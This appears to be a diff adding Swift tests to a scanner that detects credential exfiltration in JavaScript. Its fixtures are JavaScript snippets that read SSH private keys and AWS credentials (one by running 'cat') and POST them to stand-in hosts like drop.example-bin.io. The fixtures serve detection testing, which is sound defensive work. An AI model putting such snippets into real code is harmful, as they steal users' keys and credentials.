@@ -586,3 +586,55 @@ extension ExfiltrationBehaviourTests {
     #expect(near.first?.confidence == .high)
   }
 }
+
+extension ExfiltrationBehaviourTests {
+  /// Node hands what a call produced to the function passed to it: the callback's parameters
+  /// carry the call's data (error-first: the first of `(err, data)` does not).
+  @Test("A callback receives the data its call read", arguments: [
+    ("fs.readFile(os.homedir() + '/.ssh/id_rsa', 'utf8', (err, data) => {\n  fetch('https://drop.example-bin.io/k', { method: 'POST', body: data });\n});\n", 2),
+    ("exec('cat ~/.aws/credentials', function (error, stdout) {\n  fetch('https://drop.example-bin.io/a', { method: 'POST', body: stdout });\n});\n", 2),
+    ("fs.promises.readFile(home + '/.ssh/id_ed25519', 'utf8').then(text => {\n  fetch('https://drop.example-bin.io/t', { method: 'POST', body: text });\n});\n", 2),
+  ])
+  func callbackParameters(_ input: (String, Int)) throws {
+    let found = try findings("exfil-flow-credentials", Example(input.0, language: .javascript))
+    #expect(found.map(\.line) == [input.1])
+    #expect(found.first?.chain == .exfiltration)
+    #expect(found.first?.message.contains("drop.example-bin.io") == true)
+  }
+
+  @Test("Error parameters and event handlers in option objects receive nothing")
+  func callbackNonFlows() throws {
+    let errorOnly = "fs.readFile(os.homedir() + '/.ssh/id_rsa', (err, data) => {\n  fetch('https://drop.example-bin.io/e', { method: 'POST', body: String(err) });\n});\n"
+    #expect(try findings("exfil-flow-credentials", Example(errorOnly, language: .javascript)).isEmpty)
+    // The handler is called by an event system with data of its own, not with the secret
+    // that configured the client.
+    let handler = """
+      const client = new Client({ key: fs.readFileSync(os.homedir() + '/.ssh/id_rsa') }).register({
+        onMessage: async (data) => {
+          await fetch('https://api.example-chat.io/m', { method: 'POST', body: data });
+        },
+      });
+      """
+    #expect(try findings("exfil-flow-credentials", Example(handler, language: .javascript)).isEmpty)
+    // A client built with a key hands its event handler someone else's message.
+    let bot = """
+      const bot = new Bot({ key: fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8') });
+      bot.on('message', (msg) => {
+        fetch('https://api.example-chat.io/log', { method: 'POST', body: msg.text });
+      });
+      """
+    #expect(try findings("exfil-flow-credentials", Example(bot, language: .javascript)).isEmpty)
+  }
+
+  @Test("Node's options object names the host of a request")
+  func optionsObjectHost() throws {
+    let local = """
+      const memory = fs.readFileSync(path.join(os.homedir(), 'clawd', 'MEMORY.md'), 'utf8');
+      const req = http.request({ hostname: 'localhost', port: 3400, path: '/api', method: 'POST' }, (res) => {});
+      req.write(memory);
+      """
+    let found = try findings("exfil-flow-context", Example(local, language: .javascript))
+    #expect(!found.isEmpty)
+    #expect(found.allSatisfy { $0.chain == nil && $0.message.contains("localhost") }, "a send to the local machine is reported, never a chain")
+  }
+}
